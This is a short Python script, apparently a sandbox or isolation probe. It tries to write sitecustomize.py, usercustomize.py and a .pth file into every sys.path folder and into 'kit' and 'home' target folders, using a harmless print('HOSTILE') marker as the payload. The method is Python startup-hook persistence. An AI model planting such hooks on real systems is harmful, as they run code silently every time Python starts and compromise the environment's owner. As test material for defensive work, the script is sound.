import sys

from right import TARGETS, attempt, encode

PLANTED = "print('HOSTILE')"
for folder in {*sys.path, TARGETS["kit"], TARGETS["home"]}:
    for name in ("sitecustomize.py", "usercustomize.py", "hostile.pth"):
        attempt(lambda: open(f"{folder}/{name}", "w").write(PLANTED))
encode()
